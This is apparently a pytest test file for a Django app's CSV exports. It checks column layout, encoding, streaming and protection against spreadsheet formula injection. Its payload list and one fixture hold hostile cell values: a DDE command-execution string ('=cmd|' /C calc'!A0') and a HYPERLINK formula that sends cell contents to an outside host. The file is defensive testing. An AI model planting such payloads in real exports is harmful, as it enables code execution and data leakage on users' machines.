"""CSV exports: columns, encoding, streaming, and formula-injection protection (D6)."""

from __future__ import annotations

import csv
import io
import types

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import example, given
from hypothesis import strategies as st

from followthrough.exchange.exports.csv_export import (
    interactions_csv,
    organizations_csv,
    people_csv,
)
from followthrough.exchange.formats.csv.writer import (
    INTERACTION_COLUMNS,
    ORGANIZATION_COLUMNS,
    PEOPLE_COLUMNS,
)
from followthrough.exchange.formats.formula import neutralize, unneutralize
from followthrough.people.models import Person
from tests.exchange.test_backup import rich_workspace
from tests.factories import make_person

pytestmark = pytest.mark.usefixtures("media_root")  # photos and uploads: a folder per test

PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1,"c")',
    "+SUM(1)",
    "-2+3",
    "@cmd",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
]


def read(chunks) -> list[dict[str, str]]:
    text = "".join(chunks)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_start_a_formula_starts_with_an_apostrophe(workspace, payload):
    make_person(workspace, first_name=payload, last_name="X", notes=payload, tags=[payload])
    (row,) = read(people_csv(workspace=workspace))
    # names and tags are stored stripped ("\t=1" becomes "=1"); notes as given
    for column, value in (("First Name", payload.strip()), ("Notes", payload),
                          ("Tags", payload.strip())):  # fmt: skip
        assert row[column] == "'" + value
        assert unneutralize(row[column]) == value


def test_phone_numbers_are_neutralized_too_and_come_back_exactly(workspace):
    make_person(workspace, phones=["+49 30 1234", "030 1234"], emails=["-dash@example.org"])
    (row,) = read(people_csv(workspace=workspace))
    assert row["Phones"] == "'+49 30 1234 ::: 030 1234"
    assert row["E-mails"] == "'-dash@example.org"
    assert unneutralize("'+49 30 1234") == "+49 30 1234"


def test_harmless_cells_are_left_alone_on_the_way_out_and_in():
    for value in ("Ann", "'tis", "O'Neill", "a=b", "", " =1", "'", "''"):
        assert neutralize(value) == value
        assert unneutralize(value) == value


@given(st.text())
@example("'\nnext line")  # LF counts as a trigger on the way in: guarded on the way out
@example("''\n")
@example("\nnot guarded")
def test_unneutralize_is_the_exact_inverse_of_neutralize(value):
    safe = neutralize(value)
    assert unneutralize(safe) == value
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r", "\0"))


def test_people_columns_mirror_the_importers_fields(db):
    ws = rich_workspace()
    rows = read(people_csv(workspace=ws))
    assert list(rows[0]) == list(PEOPLE_COLUMNS)
    assert [row["First Name"] for row in rows] == ["Dev", "María"]  # by name
    dev, maria = rows
    assert maria["First Name"] == "María"
    assert maria["Last Name"] == 'O\'Kafor "Alpha"'
    assert maria["E-mails"] == "maria@Alpha.example ::: M@x.example"
    assert maria["Links"] == "https://linkedin.com/in/maria"
    assert maria["Addresses"] == "12 River St\nSpringfield"
    assert (maria["Organization"], maria["Role"]) == ("Alpha Food Bank, Inc.", "Volunteer lead")
    assert maria["Tags"] == "Donors ::: Food"
    assert maria["Notes"] == "Line one\nline two, =cmd|' /C calc'!A0"
    assert maria["Birthday"] == "'--07-02"  # year unknown; neutralized like every `-` cell
    assert (maria["Stage"], maria["Owner"]) == ("Ongoing", "alpha-mate@example.org")
    # the workspace's time zone (America/Chicago), to the minute
    assert maria["Last Interaction"] == "2025-03-12 08:30"
    assert dev["Birthday"] == "1980-02-29"


def test_organizations_and_interactions(db):
    ws = rich_workspace()
    orgs = read(organizations_csv(workspace=ws))
    assert list(orgs[0]) == list(ORGANIZATION_COLUMNS)
    food = next(row for row in orgs if row["Name"] == "Alpha Food Bank, Inc.")
    assert (food["Mission"], food["Focus Areas"]) == ("Feed\npeople", "Donors ::: Food")
    interactions = read(interactions_csv(workspace=ws))
    assert list(interactions[0]) == list(INTERACTION_COLUMNS)
    call = next(row for row in interactions if row["Kind"] == "Call")
    assert call["Person"] == "Dev Alpha" and call["Person E-mail"] == "dev@Alpha.example"
    assert (call["Event"], call["Logged By"]) == ("Alpha breakfast", "alpha-former@example.org")
    noticed = next(row for row in interactions if row["Kind"] == "Noticed")
    assert noticed["Organization"] == "Alpha Food Bank, Inc." and noticed["Person"] == ""


def test_exports_stream_with_a_query_count_that_does_not_grow_with_people(workspace):
    def queries(n: int) -> int:
        Person.objects.filter(workspace=workspace).delete()
        for _ in range(n):
            make_person(workspace, emails=["a@example.org"], tags=["t"])
        with CaptureQueriesContext(connection) as captured:
            chunks = people_csv(workspace=workspace)
            assert isinstance(chunks, types.GeneratorType)
            assert len(read(chunks)) == n
        return len(captured)

    assert queries(3) == queries(30)


def test_it_reads_people_in_chunks_in_name_order(workspace, monkeypatch):
    from followthrough.exchange.exports import csv_export

    monkeypatch.setattr(csv_export, "CHUNK_SIZE", 2)
    for n in range(5):
        make_person(workspace, first_name=f"P{n}")
    assert [row["First Name"] for row in read(people_csv(workspace=workspace))] == [
        f"P{n}" for n in range(5)
    ]
